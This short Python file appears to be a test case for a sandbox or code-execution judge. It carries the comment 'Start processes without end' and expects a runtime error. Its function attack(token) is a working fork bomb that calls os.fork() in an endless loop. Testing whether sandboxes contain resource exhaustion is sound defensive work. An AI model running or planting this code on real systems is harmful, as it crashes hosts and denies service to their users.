# Start processes without end.
# program 1
# expect: runtime_error
import os


def attack(token):
    while True:
        os.fork()
